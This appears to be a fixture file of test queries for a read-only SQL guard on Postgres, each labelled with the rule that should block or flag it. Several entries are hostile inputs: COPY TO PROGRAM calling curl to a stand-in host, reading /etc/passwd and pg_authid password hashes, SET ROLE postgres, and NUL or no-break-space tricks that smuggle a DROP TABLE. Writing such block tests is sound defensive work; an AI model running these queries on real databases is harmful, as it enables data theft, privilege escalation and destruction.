-- block read_only: DML
DELETE FROM orders
---
-- block read_only: DML
INSERT INTO orders VALUES (1)
---
-- block read_only: DML
UPDATE orders SET note = ''
---
-- block syntax_allowed: DML inside a common table expression
WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone
---
-- block read_only: DDL
DROP TABLE orders
---
-- block read_only: DDL
CREATE TABLE x AS SELECT 1
---
-- block read_only: TRUNCATE
TRUNCATE orders
---
-- block no_locks: makes a table
SELECT * INTO copied FROM orders
---
-- block no_locks: row lock
SELECT * FROM orders FOR UPDATE
---
-- block no_locks: row lock in a subquery
SELECT * FROM (SELECT * FROM orders FOR SHARE) o
---
-- block read_only: table lock
LOCK TABLE orders
---
-- block read_only: files
COPY orders TO '/tmp/x'
---
-- block read_only: programs
COPY orders TO PROGRAM 'curl eve.test'
---
-- block read_only: scripting
DO $$ BEGIN PERFORM 1; END $$
---
-- block read_only: scripting
CALL procedure()
---
-- block read_only: settings
SET ROLE postgres
---
-- block read_only: settings
RESET ROLE
---
-- block function_allowed: settings
SELECT set_config('default_transaction_read_only', 'off', false)
---
-- block function_allowed: settings
SELECT current_setting('request.jwt.claims')
---
-- block function_allowed: qualified
SELECT pg_catalog.set_config('a.b', 'c', false)
---
-- block function_allowed: upper case
SELECT PG_SLEEP(100)
---
-- block function_allowed: quoted
SELECT "pg_sleep"(100)
---
-- block function_allowed: files
SELECT pg_read_file('/etc/passwd')
---
-- block function_allowed: large objects
SELECT lo_import('/etc/passwd')
---
-- block function_allowed: other sessions
SELECT pg_terminate_backend(1)
---
-- block function_allowed: locks
SELECT pg_advisory_lock(1)
---
-- block function_allowed: notifications
SELECT pg_notify('a', 'b')
---
-- block function_allowed: runs SQL text
SELECT query_to_xml('DELETE FROM orders', true, true, '')
---
-- block function_allowed: runs SQL text, and is called stable
SELECT * FROM ts_stat('SELECT v FROM orders')
---
-- block function_allowed: another database
SELECT * FROM dblink('host=eve', 'SELECT 1') AS t(a int)
---
-- block function_allowed: in FROM
SELECT * FROM pg_ls_dir('/')
---
-- block function_allowed: in LATERAL
SELECT * FROM orders, LATERAL pg_sleep(1)
---
-- block function_allowed: in ORDER BY
SELECT 1 ORDER BY nextval('orders_id_seq')
---
-- block function_allowed: somebody's function that shadows a name
SELECT public.lower('X')
---
-- block read_only: would run
EXPLAIN ANALYZE DELETE FROM orders
---
-- block read_only: LISTEN
LISTEN channel
---
-- block read_only: NOTIFY
NOTIFY channel
---
-- block read_only: transaction
COMMIT
---
-- block read_only: grants
GRANT ALL ON orders TO PUBLIC
---
-- block read_only: prepared
PREPARE p AS SELECT 1
---
-- block read_only: cursors
DECLARE c CURSOR FOR SELECT 1
---
-- block single_statement: two statements
SELECT 1; SELECT 2
---
-- block single_statement: ends the transaction
SELECT 1; COMMIT; DROP TABLE orders
---
-- block system_tables: other sessions
SELECT * FROM pg_stat_activity
---
-- block system_tables: roles
SELECT rolname FROM pg_catalog.pg_roles
---
-- block system_tables: databases
SELECT datname FROM pg_database
---
-- block system_tables: passwords
SELECT * FROM pg_authid
---
-- block generated_rows: rows from nothing
SELECT generate_series(1, 1000000000)
---
-- block characters: a no-break space is an identifier character to Postgres
SELECT{nbsp}1
---
-- block characters: NUL ends the text for a C parser
SELECT 1 {nul}; DROP TABLE orders
---
-- block unicode_escape: U& names
SELECT U&"d\0061ta" FROM orders
---
-- block unterminated: dollar quote
SELECT $tag$ never closed
---
-- block unterminated: nested comments nest in Postgres
SELECT 1 /* outer /* inner */
---
-- block depth: deep
{deep 100}
---
-- block syntax: broken
SELECT FROM WHERE )
---
-- block empty: comment only
-- nothing here
---
-- ask join_depth: six joins
SELECT 1 FROM t a JOIN t b USING (id) JOIN t c USING (id) JOIN t d USING (id) JOIN t e USING (id) JOIN t f USING (id) JOIN t g USING (id)
---
-- ask subquery_nesting: four deep
SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT 1) a) b) c) d
